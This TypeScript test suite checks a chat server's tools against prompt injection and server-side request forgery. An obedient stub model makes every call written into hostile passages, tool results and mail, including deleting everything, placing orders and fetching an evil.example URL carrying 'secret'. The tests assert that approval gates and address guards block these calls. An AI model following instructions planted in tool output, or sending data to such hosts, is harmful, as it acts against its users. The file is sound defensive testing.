/**
 * Tools in front of a model that does whatever a page or a service tells it: nothing changes without a visitor's approval,
 * and no request gets past the guard.
 */
import assert from 'node:assert/strict';
import {after, before, suite, test} from 'node:test';
import {buildSchema, graphql} from 'graphql';
import {type ChatEvent, type Json, type Message, type ToolPart, isObject, parseJson, textOf} from '@chatlet/protocol';
import {z} from 'zod';
import type {Provider} from '../engine/provider.ts';
import type {Tool} from '../engine/tool.ts';
import {type TestServer, ownProtocol, startChat} from '../testing/chat-server.ts';
import {fakeRetriever} from '../testing/fake-retriever.ts';
import {defineTool} from './define-tool.ts';
import {fetchPage} from './fetch-page.ts';
import {graphqlTools} from './graphql.ts';
import {mcpTools} from './mcp.ts';
import {openapiTools} from './openapi.ts';
import {loopbackSpellings, otherSpellings, resolve, startCanary} from './testing/forbidden-addresses.ts';
import {hostileTexts} from './testing/hostile-texts.ts';
import {type LocalService, startService} from './testing/local-service.ts';
import {weather} from './weather.ts';
import {webSearch} from './web-search.ts';

const canary = await startCanary();
after(() => canary[Symbol.asyncDispose]());

/** The calls that a hostile text asks for. */
const wanted: Readonly<Record<string, readonly object[]>> = {
  deleteEverything: [{}],
  createOrder: [{body: {item: 'tea'}}],
  order: [{item: 'tea'}],
  'fetch-page': [
    {url: 'https://evil.example/?q=secret'},
    {url: `http://127.0.0.1:${canary.port}/`},
    {url: `http://localtest.me:${canary.port}/`},
  ],
};
const wantedCalls = Object.entries(wanted)
  .flatMap(([name, inputs]) => inputs.map((input) => `${name}(${JSON.stringify(input)})`))
  .join('\n');
const texts = hostileTexts(wantedCalls);

/** A model that makes each call that stands in a question, a passage or a result, once. */
const obedientModel: Provider = {
  id: 'obedient',
  models: async () => [{id: 'm', name: 'M'}],
  async *answer({messages, tools}): AsyncGenerator<readonly ChatEvent[], void, void> {
    const parts = messages.flatMap((message) => message.parts);
    const made = new Set(parts.map((part) => (part.type === 'tool' ? part.name + JSON.stringify(part.input) : '')));
    const said = [
      ...messages.filter((message) => message.role === 'user').map(textOf),
      ...parts.flatMap((part) => (part.type === 'tool' ? textsIn(part.output ?? null) : [])),
    ];
    const calls = said.flatMap((text) => [...text.matchAll(/([\w-]+)\((\{.*?\})\)/g)]);
    let count = 0;
    for (const [, name = '', json = ''] of calls) {
      const input = parseJson(json);
      if (input === undefined || made.has(name + JSON.stringify(input))) continue;
      made.add(name + JSON.stringify(input));
      count += 1;
      yield [{type: 'tool-call', callId: `call_${made.size}`, name, input}];
    }
    if (count === 0) yield [{type: 'text-delta', delta: tools ? 'Done.' : 'I have no tools.'}];
    yield [{type: 'message-end', reason: count === 0 ? 'stop' : 'tool-calls'}];
  },
};

function textsIn(value: Json): readonly string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(textsIn);
  return isObject(value) ? Object.values(value).flatMap((each) => textsIn(each as Json)) : [];
}

const schema = buildSchema('type Query { note: String } type Mutation { order(item: String!): String }');
const operations = 'query note { note } mutation order($item: String!) { order(item: $item) }';
const openapi = {
  openapi: '3.1.0',
  paths: {
    '/orders': {
      get: {operationId: 'listOrders'},
      post: {operationId: 'createOrder', requestBody: {content: {'application/json': {schema: {type: 'object'}}}}},
    },
  },
};

/** The services behind six tools, all of which say the text of `hostile`. */
class HostileWorld {
  hostile = '';
  /** What has changed something. */
  readonly changes: string[] = [];
  /** Names that were looked up. */
  readonly lookups: string[] = [];
  #service: LocalService | undefined;
  #tools: readonly Tool[] = [];

  async start(): Promise<readonly Tool[]> {
    this.#service = await startService(({method, path, body}, res) => {
      if (path === '/graphql') return void this.#answerGraphql(body).then((answer) => res.end(JSON.stringify(answer)));
      if (method === 'POST') this.changes.push(`POST ${path}`);
      const isPage = path === '/page';
      res.setHeader('content-type', isPage ? 'text/plain; charset=utf-8' : 'application/json');
      return void res.end(isPage ? this.hostile : JSON.stringify(this.#answer(path)));
    });
    const {url} = this.#service;
    const guard = {
      ports: [80, 443, canary.port],
      resolve: async (name: string) => {
        this.lookups.push(name);
        return resolve(name);
      },
    };
    this.#tools = [
      weather({forecastUrl: url, placesUrl: url}),
      webSearch({searxng: url}),
      fetchPage({sites: [url], guard}),
      ...(await openapiTools({document: openapi, operations: ['*'], baseUrl: url})),
      ...(await graphqlTools({endpoint: `${url}/graphql`, operations})),
      defineTool({
        name: 'read-mail',
        description: 'Reads the mail.',
        input: z.object({}),
        annotations: {readOnlyHint: true},
        run: async () => ({mails: [{from: 'stranger@evil.example', text: this.hostile}]}),
      }),
      defineTool({
        name: 'deleteEverything',
        description: 'Deletes everything.',
        input: z.object({}),
        run: async () => this.changes.push('deleteEverything'),
      }),
    ];
    return this.#tools;
  }

  /** A call of each tool that reads. */
  readingCalls(): Readonly<Record<string, object>> {
    const url = `${this.#service?.url}/page`;
    return {
      weather: {place: 'Ulm'},
      search: {query: 'tea'},
      'fetch-page': {url},
      listOrders: {},
      note: {},
      'read-mail': {},
    };
  }

  async #answerGraphql(body: string): Promise<unknown> {
    const {query: source, variables} = JSON.parse(body) as {query: string; variables?: Record<string, unknown>};
    const order = () => this.changes.push('order') && 'Ordered.';
    return graphql({schema, source, rootValue: {note: () => this.hostile, order}, variableValues: variables ?? {}});
  }

  #answer(path: string): object {
    if (path === '/search') return {results: [{title: this.hostile, url: 'https://a.example', content: this.hostile}]};
    if (path === '/orders') return [{note: this.hostile}];
    if (path === '/v1/search') return {results: [{name: this.hostile, latitude: 1, longitude: 2}]};
    const daily = {time: [], temperature_2m_min: [], temperature_2m_max: []};
    return {
      timezone: this.hostile,
      current: {time: '', temperature_2m: 1, weather_code: 1},
      daily: {...daily, precipitation_probability_max: [], weather_code: []},
    };
  }

  async [Symbol.asyncDispose]() {
    for (const tool of this.#tools) await tool.close?.();
    await this.#service?.[Symbol.asyncDispose]();
  }
}

suite('hostile words in front of a model that obeys', () => {
  const world = new HostileWorld();
  let chat: TestServer;
  let hostilePassage = '';
  before(async () => {
    const found = () => ({id: 'p#0', document: {id: 'p', title: 'Page'}, headings: [], text: hostilePassage});
    const retriever = {
      ...fakeRetriever(),
      search: async () => (hostilePassage === '' ? [] : [found()]),
      isEmpty: async () => hostilePassage === '',
    };
    const plans = [{name: 'default'}];
    chat = await startChat({providers: [obedientModel], tools: await world.start(), retriever, plans});
  });
  after(async () => {
    await chat.close();
    await world[Symbol.asyncDispose]();
  });

  /** Nothing has happened that a visitor has not allowed. */
  function assertNothingHappened(answer: Message): void {
    const calls = answer.parts.filter((part): part is ToolPart => part.type === 'tool');
    const attacks = calls.filter(({name, input}) => wanted[name]?.some((each) => sameJson(each, input)));
    assert.equal(attacks.length, wantedCalls.split('\n').length, JSON.stringify(calls));
    for (const {name, state} of attacks) assert.ok(state === 'waiting' || state === 'failed', `${name}: ${state}`);
    assert.deepEqual(world.changes, []);
    assert.deepEqual(world.lookups, []);
    assert.equal(canary.reached(), 0);
  }

  test('25 passages: no tool that changes something runs, and no address of theirs is asked', async () => {
    for (const text of texts) {
      hostilePassage = text;
      assertNothingHappened((await chat.ask('What is new?')).answer);
      const body = {messages: [{role: 'user', content: 'What is new?'}], ragEnabled: true};
      await (await chat.post('/chat/stream', body, {})).text();
      assert.deepEqual([world.changes, world.lookups, canary.reached()], [[], [], 0]);
    }
    hostilePassage = '';
    assert.equal(texts.length, 25);
  });

  for (const name of ['weather', 'search', 'fetch-page', 'listOrders', 'note', 'read-mail']) {
    test(`25 results of ${name}: no tool that changes something runs, and no address of theirs is asked`, async () => {
      const call = `${name}(${JSON.stringify(world.readingCalls()[name])})`;
      for (const text of texts) {
        world.hostile = text;
        const {answer} = await chat.ask(`Please use ${call}.`);
        const [first] = answer.parts;
        assert.ok(first?.type === 'tool' && first.name === name && first.state === 'done', JSON.stringify(first));
        assertNothingHappened(answer);
      }
    });
  }

  test('a call that the visitor allows runs, so that the other tests mean something', async () => {
    world.hostile = texts[0] ?? '';
    const {chatId, answer} = await chat.ask('Please use read-mail({}).');
    const waiting = answer.parts.filter((part): part is ToolPart => part.type === 'tool' && part.state === 'waiting');
    for (const {callId, name} of waiting) {
      const approval = name === 'fetch-page' ? 'refused' : 'once';
      const response = await chat.post(`/api/chat/${chatId}/tools/${callId}`, {approval});
      await response.text();
      assert.equal(response.ok, true);
    }
    await (await chat.get(`/api/chat/${chatId}/stream?after=0`, ownProtocol)).text();
    assert.deepEqual(world.changes.toSorted(), ['POST /orders', 'deleteEverything', 'order']);
  });
});

function sameJson(one: unknown, other: unknown): boolean {
  return JSON.stringify(one) === JSON.stringify(other);
}

suite('forbidden addresses', () => {
  const run = async (tool: Tool, input: Json) =>
    tool.prepare(input).run({owner: 'visitor:v', callId: 'c', signal: AbortSignal.timeout(5_000)});
  const spellings = [...loopbackSpellings(canary.port), ...otherSpellings(canary.port)];
  const guard = {ports: [canary.port], resolve, idleTimeout: 500};

  test('fetch-page asks none of them, in no spelling, even if the visitor allows it', async () => {
    assert.ok(spellings.length >= 46);
    for (const others of ['asked', 'allowed'] as const) {
      const tool = fetchPage({others, guard});
      for (const url of spellings.filter((spelling) => spelling !== '')) {
        await assert.rejects(run(tool, {url}), {name: 'ChatError', code: 'forbidden'}, JSON.stringify(url));
      }
      await tool.close?.();
    }
    assert.equal(canary.reached(), 0);
  });

  test('fetch-page connects to the address that was checked, whatever a name means a moment later', async () => {
    let asked = 0;
    const rebinding = async () => (asked++ === 0 ? ['93.184.216.34'] : ['127.0.0.1']);
    const tool = fetchPage({others: 'allowed', guard: {...guard, resolve: rebinding, timeout: 300}});
    const url = `http://rebind.example:${canary.port}/`;
    await assert.rejects(run(tool, {url}), {name: 'ChatError'});
    await assert.rejects(run(tool, {url}), {code: 'forbidden'});
    await tool.close?.();
    assert.deepEqual([asked, canary.reached()], [2, 0]);
  });

  test('no tool follows its own service to one of them', async () => {
    let location = '';
    await using service = await startService(({path}, res) => {
      if (path === '/openapi.json') res.end(JSON.stringify({...openapi, servers: []}));
      else res.writeHead(307, {location}).end();
    });
    const {url} = service;
    const tools: readonly (readonly [tool: () => Promise<Tool | undefined>, input: Json])[] = [
      [async () => weather({forecastUrl: url, placesUrl: url}), {place: 'Ulm'}],
      [async () => webSearch({searxng: url}), {query: 'tea'}],
      [async () => fetchPage({sites: [url], guard}), {url: `${url}/page`}],
      [async () => fetchPage({sites: [url], guard, others: 'allowed'}), {url: `${url}/page`}],
      [async () => (await openapiTools({document: `${url}/openapi.json`, operations: ['listOrders']}))[0], {}],
      [async () => (await openapiTools({document: `${url}/openapi.json`, operations: ['createOrder']}))[0], {body: {}}],
      [async () => (await graphqlTools({endpoint: url, operations}))[0], {}],
      [async () => (await mcpTools({id: 'm', url}))[0], {}],
    ];
    for (const [make, input] of tools) {
      // Some ask their service when they are made.
      const tool = await make().catch(() => undefined);
      for (const spelling of spellings.filter((each) => /^[\x20-\x7e]+$/.test(each))) {
        location = spelling;
        await assert.rejects(async () => run((tool ?? (await make())) as Tool, input), `${tool?.name}: ${spelling}`);
        if (!tool) break;
      }
      await tool?.close?.();
    }
    assert.equal(canary.reached(), 0);
    assert.ok(service.asked.length > 200, String(service.asked.length));
  });
});
